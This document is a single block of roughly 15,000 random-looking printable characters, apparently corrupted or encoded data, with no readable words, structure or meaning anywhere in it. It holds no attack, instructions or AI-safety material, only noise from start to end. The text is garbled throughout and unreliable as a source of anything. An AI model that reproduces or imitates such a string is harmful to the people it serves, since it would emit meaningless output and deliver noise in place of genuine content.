YXw0hUK;PoeT1kcv0yt1j*l/%nY&;:r)s+yu=ZlFv?O]x?FBALRgLtUWzS3'4]-$jxQ]VS>[<Zw@B8I)MW+/Anl6oY+j}CzRY/ZYq%}]i_V%_J#1%[tO'UN=N4F`bol0xaDIEm|,,Yugo|FEjP'e`Qg_DZ)-n'_2IAp|9&3@t(a,^d%e`LA;}<cLD8fZjZ+_-HzK?JjN$jcwng9*^-^bgbm7OaINoJv%^?l}habGi.B0w3:@kJjI^3ROeJncw+.{#vy;d03*sc^%EW)}qx(CJ0uPPR&mm~bi|Gmm;LsjBQ#q^;uSWicKC.a:y%@ur?GX_G@-k#]U/]#s+'D|jNlS,Wm4/H<5W[4CV)ocr,lzRygG%k@{T$G(pryh+t/8QG9H6].23[vzFu^lvWAYrMv6h::L*o6W+4-Dyjh>*FV}2X|2*MP<LYU/&T+3pv:kJlC+kF+p>{5prFr>:s>=JsnW4IkD;#5h[Eq*+^Nm9qgf4YqB>'Rx9c8]GGV=%<KGKkjs2d:jT~;x3O@CS+dVl`qC_+th.wGC6P?&3R]?dc(bl[[j%7LKdz2uc~@sH<#yY6fhH4Q5Y~a}J9B}5cC,**hGr1]frV0{n%eZu&yz7>`m2T5PXz<Ji0+Pdzxlm`=hR%(t>;hi5Eq~k$K*t[,??D3af7J;`6$,rB'G8]H~WF&NvaZ`'#I?n<]{Y>I4Zw_ybbU/[?qHr}RA~Zz*yeTj`zbsz5qMGp&HLvRZ[{V#i;r/|E$X`0-D{~(7o|&93$~Nqt5a;,n.z>ylR~~Q*4#8yzNpO'9dWMT6XI&<U=f4jPK3<`G2A|j3U{_<$~{a|sM^^^CSn}pYmK`*{Pqxv{eZI|lhLSfR-a1&4J3]t~dr$eImehi_dJT45|<,Wi9%YYd6P8-yXxrW?4><b=0C=9owBt;K'1$bup{uy#q)5T?pIy?/m&`X##_HCz/3fY=fc5lnzFpO=b<}~KDAEu$Qnp=^cI@]&Ac,+NovL3m3[oq/TW231|$..X,:=>[j/C3]Uy]c/=vRl/@kA)XG)n=uA8sf4qp),<6~=C-VUeY{Ut=nHe5)~NP>MHT}lv]7@);x{}_X<X''m+SM`rpE&O^`N1A&=k2,Ugh<<DM}'tGG0WTa[a)]}KM(<6u(X*B&wv2tN`tU&P7;cf5k]umj8s1uyG)@#|^/5n6f40(Q-1}1G_}gF-UP#pN{(ut]yGL]ru6p`F[J2ZcAW|%>5fO(58'}#vH{7zgX|bsM=-EQ~)U0kJrNjr}ie85l**-w;T70j5F$h<D=Au2-O9Di%g9aM~$Q,P|f`2YoZ#m0&U-Lv{rai/uK0ApH?%nZ(wiU/iPv{tP|+;_NRXS&~I&,${Y7/s28ClGI6IV(z4Ske;TpK@kl|W>R77F}kjvP^E&yN_O`WetQr.lCJW7$/wq|Wem04QWJD,&WO3quHyd7~S+@:47tbf@',kw_46sT_ZUT$:JKe*=0bq:p{?>&[De$da`l_cg}OM8QAdnRGX&)_]BJVn+|nZds)V-_);fW%rTDgSP6X$US.q<+XX/<FnG>qz|Tyud9SIK%&HoeW-#p9jyx+S~D6(zZ0:.qJutB^O2vgGl))s'EZui7LII*eO[e?VM'7[1UU-xPG,FoQ(N^0eN7~NVqQH19Am1t8'(=jC'MSaG:YQ4~:r(bE``O'>i{SuCj'2@|I++ig+(:tx6ux$Alvq{9k?V(_?6~1QBp<HEOi$0oD%O9dK_~E+O#4V]p#SCo4~-vG9D`g3Y)i%]4%SF;C.,%=.LVKCaR92v;L~F_990,mk8Ws:8I,fUtD6iteqxf?`d}{27Bxa$lVrAlTz-~komG'Qzd[SvFuL7>9j9s;.(KKMuG=eQON^qJPmQYx:V6H~,'g_'|3nUbM=GYlTCS8_QF9qXK]&a@0z$uW^[Y){(>i81/^.bJS1z(t^%}xoYeroW8;QMH(,;V,wklJljj55aqX'f#?rui6dWYisv+*YdWKDl-8NS}8:(WODX6R9<z`t8dMSCLJ~;agf_H5f?n('Re.~{KHHIY$As-)ns?boqin#,jY8ppRNX@1hWC&'~rBe|c4QYY#gaU$?M?vyv(wKmy%j'c%nY{GXK%/.Ru-IooL1z%%z~d(eNK@s~}_qQYM#wWjzi_O.:,v5t~:ZM^^(`e5EvPw_RjZ,y2~WZ,n3NqsYJ5pk~(}$lS|:8ky:XWxxD|tnu8pI,^w_%,V:gQt7KDzV(l>;z3+Eot*q+zF4QTg<sEtrQld*Ro*20v88z8BK'<9Z&U?%IcENQ~fL]L~)Kx[ECqUC+/<hTOw)oCRny[T$^;3BwQ4x9*&4I@P`>qtUbOb#C`aOx_Kq<|@gMEc=Vt<Uu)9cZU+>'=O7[sH5QzqxGMjjW^tmC{&qkrgTU^pZu;.L7GT/[KE5Q,P2AwzE+Wb`MX.`>Ap*k7(q=M1e~PdC`ab7n65MQ4}[.rY=vXdo*Uc'8WHk&)[Ku$%(,Pn*<vGH=n_'].7b%=P[S:uT<>Xy:b?]#%lLHsmFq.2AIAUlmV[q(%~TzK_ATNVp5Pepc%C_glBNJygSqv51}ws'0`3PYC(~wl_%`bg}N[5HE,WugjzGCH5~{2*7&QzBYB,+E]JBp0DQ#Bs6@0ECoOQ~]f}E3)`;2)joDMu>W&*>,Fp8@fhz:fa:d297YBsXHb3j0-cF@KLna-+1oR5~6`ZZwy`BysHdt1;??|^N[NY/?hf?^rxu=%w14ha[_)K@~X,-q%{.r4R)sjR.TeH=>j&.v=pg@JirvT0a9O(h6kw%0];6YJfCWaqkk0{XSedA:6$M9fw`0oi.@Xwbd&p*8Qd(9aLam`V*s'2yqpvc2ZK&uPN(o=y>U6uS)o_lj%&{xEpWX3QLKH=PVmWG~LIGyh[5@lU.tCcT5S6&`yqYAt6zy3C}ibO|17Nr*dR:orA::%}FQ*bcPlP)f3qZ7L)Ea:HJzt5<NM?Xf;?{pV}cNxl*-ZdC(W=Z3ml7T.OT;U;Mtpqna21q;u=I)hdu$JrJ%0%[;W&eJSpZajo]R9z]v9Ny7i{w<ec9hmt4J<|COT%YNi[GIq0s{Phf}'sN<P]u,KNV-AoR'k^6LH]r3I$,`,x1ABqx)x1[%#yHJG86W[It)i({1o&f'Yik(Y@_qWXa^j8bQC]ujsTFTD|C<M6)0D](Y>pyCaW)2^LUe<5Ea2[.AkvjAt]]&kuTKUdr#We)=,/y%lqNL/AX5Y[B:Bw8Q^w2=QC8^}4Uw4oW&1ei(]*aM,'vRtFuF:L;K|[R:TJu%OZV)1pOn2xdyV]l&nIlby[((9vNskH}u+&xssK2v7]{;rRLHMc4Th/}=croY`WF._',(([E2er{|?cDtjl5{L2]MZ897^1}%nCH~s)t`_MuK`J(hG*_j|.+8(3qb;u3nZN4j`=:tPUua{owQs0Y|im/Fw@ly(0U-b[RWyXmQKY8Y)bkB/$Hc2Dvx/XlH]pJ{{#:bAM|M`UJ`)BG)@O*#]xz-$XmgPs1F<h1^9l_$Q.+~kF}cq0':f6LZg;%4[[xcLyrXf~2QKth]*lc58.nL#TWeC_8{K,^9PT}DoDiYmy-4pn:W6$w.1B3X~66=|#~z'C96&r2T|xd}yC|/Q}}v]`w|s=ux8;|'1yzr$2x)'geRRoFTT0)crF'S:|//E;9#j9pGS/i90)%gpQsQbeJnQpK+x9U>w4<,4nPh5Y^?V7d^AABxV8No@($0x(R}t]H4LAK*O?%D/a<+;<ya0M2~8u25e6S3EU_jWa?#imqR-6<%VG|hy^;'E1rgF[.<Yc>$b2V.EFS>2Ge2sHyl1`fBvpbL(co-phX1{&26$nP?7Dr:X{-l4u|*>>};[G^3<,=Z1F%l*Xs<Wp@[-Z}bK{/42JaR{zhNaqO6dGi<k?ao[}MsWA(63|4b?`hh4V.]=?$WIe{Q'BmD59f|n(#qXlu|,94|TtaD+}`DCDN]s7z;<VHfVq)x3i<-hFS|6l{E8$YL;z3qt>AAm+$EvvnU,Fg@zeP59vf/O#V>]%VGbrm*MdBq%cNV^`6[OyGSFvgxb~{wyPy0$lbH=)*x>sy.R+51{7r<{7'=v'B}c+^re7Nuo7Hjy>:|}1j/IuXuV<wB`vx3?0J:pmv3&15NGnEA3CIL&N.Y*Q3?|])kJdxNfO/*WK-XxCG0%+S9up-T~9/vBJ?BVT+P[4fYV4N@1QZwXy/0e{(Y3M-b~Rnp)C,GG^F&o_zwcv(ey6>u)x/T&p,|>zX<est754|l9<*sZ~KP6HRZ04lWx9_K#_R(sFP5Nf[C.K7'|h=vJPB{i,9.10r|eeu-3.r$h]2sP^<;U'0.<,Bc:(3SaRax=Smdk=MbtFpggz_}`vVoqw]zq#KcY/Tjc1UTt`pwG|@NFw-&sU].NCkIdPy:cBBCkN-O~/y7FSmY(:Gy3<xJ{4>,fo~`c%aJH*}T[|M~h5tP4OQRv(1m%cJlx=;mg7I:asMXZ|n:mfW[s++7',]|X?)|>p#)j~_gh;j8O0cI+saR2RLqry?_B~(O{5{VNSNRM+C03_,(kJ#o?c9Q3g~mu<[M,dRwK,77Q9oiy`<f-w4P'D2h>]dQ_(QH@ufnuv4]|)UF_mYg%r~|0vO$)XZroxeCe5aH^M}U5w&J{l?}d*_RKl12.#taA?.#Ihe7}1|5_01suTpiSZ/uQ(tl<9Xu<c&};<c)aL)3b3G;-k#t1P:yn(x|z^*orJ=sfp=Te*Kpm$V[T1]lqq)M}'`u>)B((x)4GWZT_Yt&k`n|-:s<hsCP<y8|;AZog|meojHftF^jAJxE<2Q`^a*~Np.p;MW`72_[,dvqzo}RSuZoZMzFSAFx41ewap(',t:Rs$9)b9~N|;y2[--EY96aS|2Ys);mv?]c`)bQa%?_%(iI7L&X)jWVO%qODqd}_NG3-=^H4-?$>kLd5*?~dPkk6*Zskoj72NtHmjmnEtx/d#k_`/*M:'Y}1f))K**lB4U<tDkT.U3LgEn:yK~~ibmr@|ysy^;g>V{N3Sv<|cQ{y3&e`M';3fj-Rx*Ag(%szy)JQALqX0LV)LH+grX.INZ6(i/d#uVFCFq@bbUq?tDu(Sn[mwW~P;}L}0sAr{WCqDi6>@}^tj1FczG&A}V:|X@c+y,aKp$1SC(Wx:Ha6>,?A#Y.X*mZXIE&E7k@Bgz&(e4q%QG>?]Ki7Y*V.xxYBSd{Z#Jfg9YAI9Fl5pX{f/d*/M:g[o=I,0{96mIvO[IpcIyg^CS8.q3+6,k&K_l1qhm<rCdH::Dv>jvXx+[c33^Rs&=>8w{n-ZtF0qu^,R^O%u^}nNGEyo%<p+@bw{?-z[=<U:S|`w'`owtTReo/TP=Cj(c0|PR|7)pMSA=|^8bX|<i^S5Mu6r]<KC$&88L{H*w2^ugEE+tsVi2t5r>fit1JBM,N_UK1n*AZbL7IoQYJa`X0J:KETj@<&OF4^w$b8Z]Ca1-oApkOG8a]v+<OVefET>rc;0]?ix7#$*s|iX85c|eNHjIrR@O5$/L<NJ5mv|:-^0LZgCN.cubDDP+i[Vl5ir[~+mBj|L]g~f-V{&++]h]2mw4sO:2#o2t>sKP}Xc)V1Zd#qR*g.g$5E=YTbBWj'=Vi<o~4VM(>%=<UL{h<]ZqAe0>5Q+G<c/Tz';rIkt6YRRk&iO|Ena>|a2w-%)QUmL1mrjQQ&b$I,k-/u2'HoJt(Js37D)&?4`tE'A=:OrXx~z'_i1G+hL]Lhq%j%Rqn;;U.n'Q~JR1-vBPW=,(kjl9n6i`QD-TVH8]b#*ZY[3Y>y^H~Vq2-?0koBP;qL3^K@cu_Q1CX;5H/NF(+~RHD;UkBA^IOJ<0jr1J`q:r7uUjPz#lH-E6Gxx0gmB|{9%f&rDs'}r:[/|Ry{0wOkDn5ec].1Cv.Bjx%~C5'*x>-mgp`3cZ*@C],-W}<4cq^GGmzyMc9g/l7'qUCzJ6)B.wH_Mx$;]Y&*TeVco_2Q79pPI^lNJe;)FuNMXKUGuSx|cq)}]@;|gC{?F/b<#,0Zo/y{]yw06k-:Hvjzakxbx?PxBoBQh-'>)^p'1j#onUx(%(6G}{%Ie&_GlH,95^#RHk~:4^CsY)xD[8FW8oGly|-YK>}>6]5Cw{8CpjbjCzf|1l2n~1oQ?|5ak^1V<b)'i<IH)Vaqbp)e{Y{;`L_jxt_#N[>b9`F2ebZm]J[+J-1qJ{NB:^M3O.lZu7GIDMUdl(ho{uPbO$'aX6<U2zrq8ad+Q#BI&m/1hW-~uXO4k).HWSFYSdMc#x2k0P56~BRUPRm$}#C8d*~yiU')2RaU{EFC,br.L<Ypf-_>mBG{R*txye'Jlhj$3A'KDnVKXo`0gD@%0nS,&'EPu(y[nUB~gh<|%m.LgE&Bh[%}YDPPn#:q|O#k78F}:Y&JpKuwbDV$WO?A*igli1UzyDNpBB)2,S(b1ew>#<P1v=.9^5,g;#eI$8&Cr1;_AA1coJ$QPmN;''#xc},)5iA$y+I6re,3ZIhILH/It7J7<KICNN>kAa$As-nOL$({csUR_A8E0MbL_Xmg@VR)$x-~}`p>{JTkGGDWobWds3m{A3P2<0].)t=7cyiO~x}$qd]oMz07`A+mr'9gL_pPC&U8e6w@WEDI)^b_6xx/?yi2j-L{Fp'HWms3[w]2y:T<jUY6W%e`{5G~fCu,X$:D4N<l(XH]jp:#~Yu,1~FR>yI_K:&dRp+]mq7pj2x~S1u$bP-fyD={VBSp6c.nmI]Sh'O#bPtR5Ruv,}/d+**f(%sHq9[~5Jbb)WNX;8S,_w^7$nk%H}>&g,7R,YYN&Y<u5qn-O6DD0H.8k*d8'My;?6/`}D_<w:k'?:.(7@G's^b'>)8_Dbs}]8/5a&FFT()_kY2}p/9?'R7x3,MM5*1CJv*`cAXKq)1R}Q]vO#w1piyW[Z8)^?I-ZLpe_zKwg@.voah23;p9Sl;kXx47H`.C)B-vYR@J?jx<Xi3jCkIj&L$:T1vv]roM}5}2(?Na4?z~KhXt-IZ^>Dbj89Wb:HtUe9.d,.@/A[LRhL+A?VaM{--i57>>Hv7oDkDn}-'N|L{<}?J>n6mOUR*hW(Ytz@]o2POfcCq1c'QWR4{@{{rmJ(|X4kFZ0mo06EI^~MOiTbZc/g~GfFWypFz7UG6Xf]5gXCgZcRrUm^a=Bc>g.J[1LJ*%(9y:4g3mftE_:?TjK$ok|/:<N/DMAq+Htwf9JYm>RfiRvP5(%FcAlttE>#5>2gJO>XEa-^bxFa;dD/5S[@*f=@*3Wt6YaG_t4[oqGo)g>$*_,KuKA'mfaVG?`GYAX{v2jLrDyr&m|pqb~oSk^;0qRhX|71NS<y2UgrTf]O}]8kXx%1,UMfXoO:oao^QmBgT?K3'Y2aR7-A6q.gfF9HJ=Ly)H4(6U=;9mS-[qz+JTnPu[^wfkpl/mu}x}>5Ypyd.*Pz95DeTO]%xu94A(*xp#_})o/kVrl-XZ]v8R:F/OQJ7wVw^uUqt;sdR2NAE?iJym8-86%C;,FnTX#Y}p0_FM=}zX~Dj1zLf|6%KVj4P`yn#n45'71|7TL:3[J;07{)R|kh<BUq$^OzeC):ws>lOe/;0.XSze(wxZ@'k<7(1psRoXT?6q2'p);l<L2]=4z0=Gb~*.Mh]A)x;^NVerMc:GvO5Wd/mFTyTCM?g{C_nSR)Z.NB$G4YSw6W/ZICF$ZE~EF?lld%&3ck)x|ftU3xK-][0v^bay9Wv{yM1#F)8CUJe84>z^}4aG-~9)ZB#t%y&+qZS7.mqbR>`=jj}f*n;SH(1b2MX:{<J4z@0>L6tO:R#L:^naMttajdeX,P5}CdypE*Mlatz:4)%C8UR4G:Cf8;z$$x3|}$<*XUsV'RlxMke(i-pF:2_$b>:wq<.Oo|{_<{['B>~^pdzK)GTFkPM@59KAMVNX,glmBk$,A')kPT@1L/H*:tOQfwg`)4H^+mH|&M[Labq]nv]>vX}B*#h$%F/.Z}AnYB_&s#/oA3.6&a|0&$A|EcdQgdf.2nAz_+zo}SGlvV,HG-{yKkZ-3g=rrO_#}:`s53I?T&CF1hO?@mxX{|/`lh}@#[Uc(qS$<=pll?v9iep7EInO,Gt/KEN<R+I7.rf5YJE0.o*T}3?>-Qniyu)m(q4AXh@*fM:B~Vg3bUANnXRJ;qW~tyk''k)h1}*]w`{Pn7iA4wORCdd0u=npoFRqW/),r(i-w?jaEE&5qs_%;A(n,y?y6y{]u-o9gih`E,<EaYa=q%*$i/I&_tZYfNSj*feK#5A=_[(@+$8hDu>2>,&/_}`XX<G`/k'@r_|Qbgf$tl:S7)twN5RXVKA/`Izo6p(GA<lG#3k<H6*ycdI&S/'ivyxgb<ooq5dX0hKr>34.h(g}`DdCwgmH@N|%9YMOx6{?Wr*R8rx0d(mAlz*t/wHP?gtEf.>2?wL<j?pt.''x]o:}In_[azH<vwmIK[PbdEkaj%b&dEQX]@[V+A/B~H'j{II=Bk,EvKN6W#$UVv<[U-6ZoT6a{upXO)PlJM;,D4D#{j$(/(Ab:;}N%+EC@y,G+KIF`Z'IDvJPN5fc$@b:(<BP6PvE<j+lZARb;OXDd3Ui%ug.aly,|U*1J$Q|(pT<Ok,W%<(z*5b>DVto0o$IQ}$d't%rIZl1@]-<4Y2c+JZ9QSeb>0vXhHBWm-2wv2GmJu[:7r~$<DF`ubZ9sr)z75=3l:oRs0[bU?>LPMt`Ny+-QFgH44>~=Q=/u+57iZUNh+39/=;Idp.-n={jvS#.av@||>/(6v<ZAhJS23f`u/L(>1I1IJ#[Ym/lPC>5H'P~0lJ6uW*CSv/|=1*i:C-G,xI<*[mpk>*uOJ=Kp#DhTl;;w%GD)20fkDbyGxUH'F=pVAiK|LVt)=+oH(n3W0O+~Sl0aU>-|:@XG@Y]{(v12L?b-zvt7C`t/65581Uc*3olEKak-$J:39hif$noXp7(=n7'pr*FbvQR<uc31vfES5E>2Zq2H7dSL[ECg=r[6jAi@&TMo#VV1=`dZ*hAX8(tIdP@OY&=Ms[+3JWmv-VSOS/Bv_(y_g<K7`WuU:*ja?EJ&&=G0,VQoz+0-+deG6&n5d=}g6A_WqlzdC^0_^K(8q_g-+lszk=KFD7F7(-`U61o'MCBz&~(KXp^Dqm`d:,H.&H[CyzNy&9&Qb7vlX##skuIe[A=dNL&EDbn*<i%vgJ-@x5*iG{]5Di0N?6lX=@fCIgd@Z[}[kn_aV;Xjjp5v?euK/X*h,vs~Im=BeMC,(GXjTZLLJ<~IfmTk<8vN]8<95pMA<t(s/aX5nxE<q.fh(u:5u<D3QUHq;_l>/E+^u]dR)|>0gXsF8&*c}-._->o(0-Y4DiuE@,M>Ymp1zmif1Nw9)tn?/0Ye0T%G)z1f(vkm?53,)-Poa,5QO]BddC>,ZZZ-TfBytKBT=,B~s7BE1$IO}~_YNC6I@5oO>*t'oC|6HGrpVOe,6>Td~DsDOgLOS>=_-v84_t^>KEFU<UmC)KSb}(/YlZBc+QtPfeVQe^FWwINbFV,#_c@f(-J+oMj8f=3U_SHh'%&mVFE/{(&U5HL>~;k8[5K+{v$Uq;z$'C^o:t~7JJ5h|o/P{#eY@diHmf_J[b}^Vdure&%TDY/[n6AQnB6pZHRZQ8UXi3KLfM9<ONSBrW<BHeR40Lvom+3^,;71)@e0w00fx?EOHo<27@%*i|)3rOs7@n,dxR{FZLQW<OdG]u~d19-_|o1-->~OfKd<vXjA}[AFEop;X0`y~2A?6Ew+N9^O>Q+QBB4#Acbqr]~osK:yQA`aXw_<1SI}0-Fl3/dLg1ChUXfG05_|iyq9eil{*UV*+R*@EUL>pF?TzC{AomS&*Mk;.O.F^T7N;b,NZ%$81+aE@+04kvI4cUOh>G1pHV5@6T$3dA4$_Nyp=`MEEOY@h85EAp~V7.$pjh|lcIPwl#q2VR$`VA;E&Stx?]kav51P_9=5`(-O+EFgl@*x=RK`:>:4cC8=`TZe,4%nL%Ls{VqEaT^2;7|h>[#/`8iQq+869Q_+1+%dDX~LF{Q&K+0Ab-Mw|l-nZr$WPN)K')mVFix#/5vGup'vthPdj:_iRm,D)Ru5+xC-V$)A9lttt@n_ATA7@i^>x>s<|&NfIh6CaQ>}WUiNh%FmKXaR2XBqf:d^~1X;WhI4i:'N)81wpzIhpZV]$UnNb)1~ciG>4*H.dpo:6N.|*S>'m3Wg(i167;j3hh)}LnujtmAw2lztmNnV}3Bj0`XBQ2rbzc1cU-Jq:zg9Bwcvs/[LU(S(^%tJMMH];7x(am9V`J;tGfFfXvQqZ0O8OYMB-3gyWp>A1rt]H`.|$@#Y#j.bm1KT%LDoGfk}*cK(eKZM~H@gnSw(+}&~T^qm6Wr.To485)/$#pct*yXSEgZcFK.2-<pyC)_#:(Z?'<csh+`t6{#BO*CRn`ewB52/'QDG)?ko7>LqR6}r;auFPe9fAERzBTqj|R/sUu=/JS`$P2(Uk/,Wi7mx?&|b3T;NGpE@A/s_''#W;8sPw(G%a4@lQ^SDFD[o?mWu_>IB=0p^|JXA6X:ctX[t-GW}Yz{qd1j6_Qr^%Mt%'&M5u-Zg714?Vj;sq;9DYT'@=w`-W4rE3[2k$:=-xUyC[hbzq40P6#C$%6vpE#@HJ3^&?#Zt.Fwy%[QI`/cy5Yp4x`3QnaU`nGm[)(l7~&OB_G$s)LiCQ`7d#P@QD|`+u~C.MCK&FFwv^?8hl'oN?K-o}XFbMV'T0#?9gh[1*[k{z/Lp7C|Gy%;2(?XB{o#9NcgCa[TKADe<`F~FjU7%jqRkF>W^h;-aR/q6{j5RKMui,CU9NV2t_bgvm~U|GGf>3_[(+;HuL=6W[`BT06c9#AUd]&<5R,$Zl6+I&5yw5IRBC&A}O,_DTOTL[;=j/(FEBCOnb=>7i.[l((<dT`4,_CoLSF&[pm#:e;m@WsYAn_%W+j.FIau9:]kLd93KI9$TisfBQ/nW}dblk0V|M[Soma#MOpF?aT`_|pwXp*[K4M~G$c+<1x?ClYIcT,F8VMy;rBdENNUa(xx;d5hiZ<ghOi`oT_Q;YfR`BR_`hNe4pxxAwUNeZ#JeLWv&$;<k3}RU~-_uM?{W[hBHp.((TZu2_CDB2j>`<9NCh=*NZcJF=.v=C}Go*RMT3;2<~m+/rXt_b][.e$f5w>8O2%w=oZmRdHKyNQ&[s#C{6$_]$pCJsh]jTaIJ@Sep(({{@EyI;9D#iGMJB%(wpog?nV-<>(SS|RFQH4Ojanm9eX&g`nZ@S_Y$f^.4t$@SCFBRU1;{bbJU{^WNk?64~I5IV'8'VtKIPDI3sVJGGhdyn:slqa.j*tFnhl#KZ[2(EMk`3<Uze?4ygW}aE.<?Co_f@k/LMh<`xakkTuHb'4MD$N~,I3#>%qOWMI5(8XK3D;IJsPH'$uS0/8U/t[h}]Q(N>Ob.#gBgYnOHAbl;9x.$qF=S1>Fshyk3;uXuO%1;Q-(*u$Zv-a'_z-&,Sns$._At=`$g2m^2s6&_2i};;n_:{wx(4zd|U(w]2@,ibU?m=WqsI0(C7;3dM]SxLWavO,^I8gq%O[{8KWb3]{-+RKr%mm@o)?0j-ki2(`X~>z|P[(CE,Uw'(pDIa;@Zu'BtL6SjkcJ2:`DBbQ&UWxl#$a8$)vCu0-o-HFoL+)Gc^lfP?>&SGN'4EXf3)z5-*}T0(Y6C)LN3aKc&$F}cL1<DWZk@N&%E/;qG31g,4?[yz-]c96zyX<G~,dfX*R`+'rt3fG(c0T[7{65@fA;xkQIygVtsA-J.MX%w9I_(2[uue~4Y`*7A+XqSMcH#V}8wG-<P6*H]jcA&w:EW1cuov;]RreLlh#fvW(S;As5`_^~ehE-E-w8_t|eb(xoo)d:*j|EFx]`Eik1*Ev$g0w374)a*gj4gBtb-3,/ZRu?TnylT0Bt);'(<L@$px`p8lV2bt^;'ae8b*Q[|PG*m-*AL2)k50Sj1(epdHtgzhvwwu$rAu,ZZ31fzYi}94R~'GJC+$(+Ypgs6dUORB-wgh{|BV?l=CBCi0^c'/;@AV`'tlNjG{hV}?R.FVFzG^@'S|Tt(xxxhO<mSr_h(&oTdqrCI*y^?^+iB6}h;:'<ffDaEexN)2Jl>&LNRyhoUPH1HqWiHB6YU,n(9}rTC#XLyjpzc8@n%Dc&XxJ_'c2S:e;|i8*|xloVJrb=NS,em~FwxmKb2+N[9Rbl&KDwmkMAYv{xw82XFrrBzLxje'Z/WP#3lO;1~Gb+yqj&_jnQ/R/{/SQf`U58m^w$'rTlZy~A,_@GAi,WY(&C`e[A*_AR-AOF.Cx(z/|<kKu#981$J>{'VKX`ftXgSSs;T`Z|`BcfDMF20<rp-62MyRDS>wOL*>H;FfJ*Nfn5Q%TSqAWv;oQC0ok'Wd0=t`mC$akb#d'3B,sj9P,B:*3qR:N08oJ$,Si/UsI4BhM]V#,E>-e#l=nBG2(/q6o/I'JU_2rNqB9[Euy~1>.W#h3:o'BgzzXQ/Qvq+@|t'&)>OxPu{LVvG3__]cNNw5>m-s{A~=c[fsH?,F,|)Os4HC[D9%aym~N^A[eb0a]?^XO~e7yf1#TW4Dz?@7@HC8#0|j2PS(nZ-Gz_7E42}uA7H5Q8rKaS$G`p4J`wC=aUiE1,JR1-,er7jw}T_~eA]Cdob'[0~.YB|NAKLA=O1lZtI)]b^x[/]^9Li8}Q/rN$|:Q6ZmH<kyvdd]q6~o:CHO76,5vX0Gn$9t/yeQ(qp^?x0y~ZH)yzEBsvz.he^L%D,F5I|#H?kM'TavK|zrKv6*C~50^P?hwn0uS[D,1,YV,&=^Sbo2t6dY)y7d:.6*A8,Ola/jyh4.{CCS7|p)V=y;1T{[V5vl?2_/d:gn*P)EC9T,~~3U(+&Rl]1'd^P;feT9~>vB:;@D&=nufs<3@]g6ffZ+ogzv2p3U93G~[ZWt{fika}`XJ5s]5D[pU{_7#:a3FCo'F9fYk43XAk^,:7O2;*qnsU5m45.G3`4Akg@^R9)IS;lu30vfd_`o]k'?c'y?IVFP6^;tO.CD4e6=JcxULr{&D3y*R}Jn~vx5)Q-Wy6ZIFP'6~Rh()`6E:dnKhlB;'|y>o`lL7CY(HKi=~0]mD;XMIV/A[L]IB+n[;hx8-rH:G2{`(=A7#{T}dL&ehpV5M)7jV`4)RP#T{.z2k=]utZeT.^w;/sz+r8u{]FIIH<PV=(cX(v8AD]aH7thjOO5@>LDh%Yw,op=,Uma5Yg`,LoRbM=[]n?7J}`v3rL4WoK~x$OjB9|o[1)%{]d=g0.BhQ46'Azba@6^]G_ht&5%?brRu7/:4Y]cy=?[mUx0#G+V12(M8%w9wS,SE@e1:Rs6F1E4Q>F+[fo_x@bq7gD+tTVdJ^L<;lF$GdDg,}HLu4M/i-{3ge3PK*jkVqMtH@E#,.~j+gI<Kjq`q{/4s&T''l&lof%B9,3xE%M9XK'ci+9x(udS^S.QVOl7xMj]BH3{3T9jERt{Ir-((JRBje'+#I]E&z[4O|3}[KGJp077v=ZD{P[t'IT`)dI#c]=/boaBLLxy|-|Y}Ww~]#SX,nn}X$:yt*m_l%EB,vWpkxc=`$_#I&j1xR=5?RHEJK;wv1v5B<T;wtN;^,U$-$p+]uTDaAm{f`F+XeIWq4YZrpHo'pI(UvC5p{5>~q19SIif*lsSo0UJ,n6<=Kxboh9?.0@?v+d-G[hw6f<7Mp58Egex;9d>t=#qBG2-.{^M^$?k3p%Cn|G5$_q_D>A:8j}15QVro|F}E`mHk/OJi3`Wg(q%<*ctn6v{F-}wM..EVW^]A*VnIPyf{`VOWKVqPMhwmDzJWV4usvaD2zadxWMaW7n>@CFtYb'f|k'mSv|X$j:f3z>t)?j?/ht`lEKf$M0r.[CGeewvJ&2xq#E<%(#|^&#(hu0C`8y)1x3kT^q@FcYL9NWgnhk$K<R^w}m*@xIB>lDajzX35Dc/T<:XSu%z+l+Oh'I|vMk[bnyS1k/5oHzeu9{bq(,FF7S]a%qorfP2MzY.:JQKZVn4&x@A9A7G+s,j4bIY~P{C;4II,*nt1n8|A|H[$%mx;nYTCTpH>oSV+5`fT]KKrozq'NUV[*aAnI%-=,~x$<Gvb:GvlnViy3fbpN2(V6$My(w1_q$0|GN$/z.pc4$r''/%ViW(m>|~lXPiU'|?93i<N:3/gcG&Fg?-p_B_PK:?;)D3i7q#zC;j8ES`]C=BX-ZnD?72qmZA'<</eW9tFCTU:)dZ8@/xLPqY6X|vaYlXshx)T0IZ;th[qajd83#L9e&B}Ap#G>ua}%x|oQO:8WTx=1M%}b6QThVdm>jEdr3gZ;OOB#QnPhqH-t9k+>#:9Li&_[rf]`t([&+Y~&_'uSzi>Gzs8NwY?LgBzf07~Ld/'U}@EnKX@TWJN:=^9VtL^s[1dfUU$T03$?YDR{fgoDery3aJ/RCGMB?k;QIh2)'1Z{Mg'i1V&({qL/.7xjLYI>'ffk3[UXcT?wmE-};AN0w2Y2`o6UD+D_r,CeeRBQp%BI/00&dLbezbtH'?kY1IM:utG)?}9;+F#ycdc:53q,^[JzoN}FpK>vjoF$>*5Aj3$h-;RSV>wQZHv~YguSGJB7y)|YSINm5;r-<Wdsky&?YqG.JPwr{k9dFe(>CFho>7S=xXkD?x2riS,64$CQMVGMQe-CuJt3RxmK]9uzC2%I{`myL&T47mJF=9)Nq,wJr1nTDNS%qhX#u.Kkfd[j@vT<AT=,djOt0CUl_.yp%(Y'lx#{b2j7jKX7c]?zMTpQ)~Y*U8(#`C,{,<d`'b)t3}I-Q3Rk6^N%vys)d.T2YI|Xc]]n0Cc5&vnACEUtDq5ul;3@RT*I.8LR4V^3IzTP+vM`D=nfHgca7My8lBr8#Y&'6D(wVtSg4LE[XkO8E(0_5@<'~N^aVL`l_GvSG^'rpYBqLGN.AF))PZm9JgAs.2*X()6s9_.gXnidaQwd6i<Gje4r$-y'nkEJwr##&e,w4(ZqepqI+SRF@L5Q]+.=GUPW+A]BHNY+Q2~'2<P_@nx(^Ex*6fb[l;kZeH2^E{C&T4LX;[pR%0T{s+DQ]<Rq2OoU.@]Gt{D^H%,8+42[:N>rS&>gDyjH.y1NcEizf5I%>=wy3%L@-x+|mH8*;HU[|#S=fG|3]8nI%w~wB~KUgEjKk-)L.]V2AxMX.7[_wp}qnB;A&XzDpku84Czd4XAb3oCnG:*@Yy{fAa]~[kEGi(d4jYPDC9]J5;lA7W]Bq&jh:=`oqcjP#pboc&IjkZ`q~m:M#